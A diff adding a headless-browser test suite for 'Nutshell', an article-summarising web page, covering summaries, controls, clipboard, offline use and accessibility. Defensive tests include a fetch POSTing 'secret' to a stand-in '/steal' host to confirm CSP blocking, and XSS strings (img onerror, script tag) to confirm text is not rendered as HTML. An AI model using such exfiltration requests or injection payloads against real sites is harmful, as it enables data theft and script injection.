@@ -1,0 +1,241 @@
+// The Nutshell page in headless Chromium: paste an article, read the summary, change the length
+// and the language, copy, reload, clear; and check that the page asks nothing of anyone but its
+// own origin. Entities are not asserted beyond their shape: they are being built elsewhere.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { launch, serveNutshell, watch, openNutshell, summaryOf, fixture, squash, CSP, waitReady } from './helpers.mjs';
+
+const ARTICLE = fixture('nvidia-europe-fr.txt');
+let browser;
+let site;
+
+before(async () => {
+  [browser, site] = await Promise.all([launch(), serveNutshell()]);
+});
+after(async () => {
+  await browser?.close();
+  await site?.close();
+});
+
+/** A fresh context (empty storage) with watchers; the page has the article pasted. */
+async function withArticle(t, text = ARTICLE) {
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const watched = watch(context, site.origin);
+  const page = await openNutshell(context, site.origin);
+  await page.fill('#text', text);
+  await page.waitForSelector('#summary li');
+  return { context, page, ...watched };
+}
+
+test('a pasted French article gets a summary, its language, highlights; only own files are loaded', async (t) => {
+  const { page, errors, requests } = await withArticle(t);
+
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  assert.equal(csp, CSP);
+
+  const summary = await summaryOf(page);
+  assert.ok(summary.length >= 1, 'a summary');
+  const article = squash(ARTICLE);
+  for (const s of summary) {
+    assert.ok(s.trim().length > 20, `a real sentence: ${s}`);
+    assert.ok(article.includes(squash(s)), `summary sentence from the article: ${s}`);
+  }
+  assert.equal(await page.textContent('#language'), 'fr');
+  assert.match(await page.textContent('#took'), /^analysed in \d+(\.\d)? ms$/);
+
+  // The article view highlights exactly the summary sentences, and shades the others.
+  const highlighted = await page.$$eval('#article .s.in-summary', (els) => els.map((e) => e.textContent));
+  assert.deepEqual(highlighted.map(squash), summary.map(squash));
+  assert.ok((await page.$$('#article .s[class*="sal-"]')).length > 5, 'other sentences are shaded');
+  const shown = squash(await page.textContent('#article'));
+  assert.ok(shown.includes('Jensen Huang devant une salle comble'), 'the whole article is shown');
+
+  assert.deepEqual(errors, []);
+  assert.ok(requests.some((u) => u.endsWith('/pkg/nutshell_bg.wasm')), 'requests are being recorded');
+  const foreign = requests.filter((u) => new URL(u).origin !== site.origin);
+  assert.deepEqual(foreign, [], 'every request goes to the page’s own origin');
+});
+
+test('the page’s CSP really blocks requests to another origin', async (t) => {
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const page = await openNutshell(context, site.origin);
+  const outcome = await page.evaluate(async () => {
+    const violation = new Promise((resolve) =>
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
+    );
+    try {
+      await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'secret' });
+      return 'sent';
+    } catch {
+      return `blocked by ${await violation}`;
+    }
+  });
+  assert.equal(outcome, 'blocked by connect-src');
+});
+
+test('the length control changes the summary at once, by sentences and by words', async (t) => {
+  const { page, errors } = await withArticle(t);
+  await page.selectOption('#unit', 'sentences');
+  await page.focus('#length');
+  await page.keyboard.press('Home');
+  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 1);
+  for (let i = 0; i < 4; i++) await page.keyboard.press('ArrowRight');
+  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 5);
+  assert.equal(await page.textContent('#length-out'), '5 sentences');
+  assert.equal(await page.$$eval('#article .s.in-summary', (e) => e.length), 5);
+
+  await page.selectOption('#unit', 'words');
+  await page.focus('#length');
+  await page.keyboard.press('Home'); // 10 words: still one sentence
+  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 1);
+  await page.keyboard.press('End'); // 1000 words: the most
+  await page.waitForFunction(() => document.querySelectorAll('#summary li').length > 5);
+  assert.equal(await page.textContent('#length-out'), '1000 words');
+  assert.deepEqual(errors, []);
+});
+
+test('the language can be overridden', async (t) => {
+  const { page } = await withArticle(t);
+  await page.selectOption('#lang', 'en');
+  await page.waitForFunction(() => document.getElementById('language').textContent === 'en');
+  assert.match(await page.textContent('#stats'), /\(chosen\)/);
+  await page.selectOption('#lang', '');
+  await page.waitForFunction(() => document.getElementById('language').textContent === 'fr');
+});
+
+test('the text survives a reload until Clear', async (t) => {
+  const { page } = await withArticle(t);
+  const before = await summaryOf(page);
+  await page.waitForTimeout(300); // the save is debounced with the analysis
+  await page.reload();
+  await waitReady(page);
+  await page.waitForSelector('#summary li');
+  assert.equal(await page.inputValue('#text'), ARTICLE);
+  assert.deepEqual(await summaryOf(page), before);
+
+  await page.click('#clear');
+  assert.equal(await page.inputValue('#text'), '');
+  assert.equal(await page.isHidden('#results'), true);
+  await page.reload();
+  await waitReady(page);
+  assert.equal(await page.inputValue('#text'), '');
+  assert.equal(await page.isHidden('#results'), true);
+});
+
+test('copy as Markdown gives the summary with [§n] references', async (t) => {
+  const { context, page } = await withArticle(t);
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
+  await page.click('#copy-md');
+  await page.waitForFunction(() => /Markdown/.test(document.getElementById('copied').textContent));
+  const md = await page.evaluate(() => navigator.clipboard.readText());
+  const refs = await page.$$eval('#summary .ref', (as) => as.map((a) => a.textContent));
+  const items = md.split('\n').filter((l) => l.startsWith('- '));
+  assert.equal(items.length, refs.length);
+  items.forEach((line, k) => assert.ok(line.endsWith(` [${refs[k]}]`), line));
+  await page.click('#copy-text');
+  await page.waitForFunction(() => /text/.test(document.getElementById('copied').textContent));
+  const text = await page.evaluate(() => navigator.clipboard.readText());
+  assert.equal(text.split('\n').length, refs.length);
+  assert.ok(!text.includes('§'));
+});
+
+test('a summary reference explains its sentence', async (t) => {
+  const { page } = await withArticle(t);
+  const first = (await summaryOf(page))[0];
+  await page.click('#summary .ref');
+  await page.waitForSelector('#why:not([hidden])');
+  assert.ok((await page.textContent('#why-text')).includes(first.trim()));
+  assert.equal(await page.$$eval('#why-parts meter', (m) => m.length), 6);
+  assert.equal(await page.$$eval('#article .s.explained', (e) => e.length), 1);
+  await page.click('#why-close');
+  assert.equal(await page.isHidden('#why'), true);
+  assert.equal(await page.$$eval('#article .s.explained', (e) => e.length), 0);
+});
+
+test('every control has a label and is reached with the keyboard', async (t) => {
+  const { page } = await withArticle(t);
+  const unlabelled = await page.$$eval('input, select, textarea, button', (els) =>
+    els
+      .filter((e) => !(e.labels && e.labels.length) && !e.getAttribute('aria-label') && !e.textContent.trim())
+      .map((e) => e.outerHTML),
+  );
+  assert.deepEqual(unlabelled, []);
+  await page.focus('body');
+  const reached = new Set();
+  for (let i = 0; i < 40; i++) {
+    await page.keyboard.press('Tab');
+    reached.add(await page.evaluate(() => document.activeElement.id || document.activeElement.className));
+  }
+  for (const id of ['text', 'file', 'clear', 'unit', 'length', 'lang', 'copy-text', 'copy-md', 'bookmarklet']) {
+    assert.ok(reached.has(id), `#${id} is reached with Tab`);
+  }
+});
+
+test('names can be selected to highlight their mentions', async (t) => {
+  const { page } = await withArticle(t);
+  const count = await page.$$eval('#entities button.entity', (b) => b.length);
+  if (count === 0) {
+    t.skip('the engine finds no names yet');
+    return;
+  }
+  const button = page.locator('#entities button.entity').first();
+  const mentions = Number((await button.locator('.count').textContent()).trim());
+  await button.click();
+  assert.equal(await button.getAttribute('aria-pressed'), 'true');
+  assert.ok((await page.$$('#article mark.mention')).length >= 1);
+  assert.ok((await page.$$('#article mark.mention')).length <= mentions);
+  await button.click();
+  assert.equal((await page.$$('#article mark.mention')).length, 0);
+});
+
+test('article text is never interpreted as HTML', async (t) => {
+  const hostile =
+    'Le <img src=x onerror="window.pwned=1"> conseil municipal a voté le budget hier soir après un long débat. ' +
+    'Les élus de <b>l’opposition</b> ont demandé <script>window.pwned=2</script> un nouveau vote la semaine prochaine. ' +
+    'Le maire a rappelé que les travaux de la place centrale commenceront au printemps.';
+  const { page, errors } = await withArticle(t, hostile);
+  assert.equal(await page.$$eval('#results img, #results b, #results script', (e) => e.length), 0);
+  assert.ok((await page.textContent('#article')).includes('<img src=x onerror="window.pwned=1">'));
+  assert.equal(await page.evaluate(() => window.pwned), undefined);
+  assert.deepEqual(errors, []);
+});
+
+test('an .html file goes through article extraction', async (t) => {
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const { errors } = watch(context, site.origin);
+  const page = await openNutshell(context, site.origin);
+  await page.setInputFiles('#file', {
+    name: 'article.html',
+    mimeType: 'text/html',
+    buffer: Buffer.from(fixture('news-fr.html')),
+  });
+  await page.waitForSelector('#summary li');
+  const text = await page.inputValue('#text');
+  assert.ok(!/<\/?(p|h1|article)\b/.test(text), 'the markup is gone');
+  assert.ok(text.includes('Tour de France'), 'the article text is there');
+  assert.equal(await page.textContent('#source'), 'From article.html');
+  assert.deepEqual(errors, []);
+});
+
+test('once loaded, the page works offline', { timeout: 30000 }, async (t) => {
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const page = await openNutshell(context, site.origin);
+  await page.evaluate(async () => {
+    const reg = await navigator.serviceWorker.ready;
+    // Wait until the worker has cached the files (install finished and it controls the page).
+    if (!navigator.serviceWorker.controller) {
+      await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
+    }
+    return reg.active.state;
+  });
+  await context.setOffline(true);
+  await page.reload();
+  await waitReady(page);
+  await page.fill('#text', ARTICLE);
+  await page.waitForSelector('#summary li');
+  assert.equal(await page.textContent('#language'), 'fr');
+});
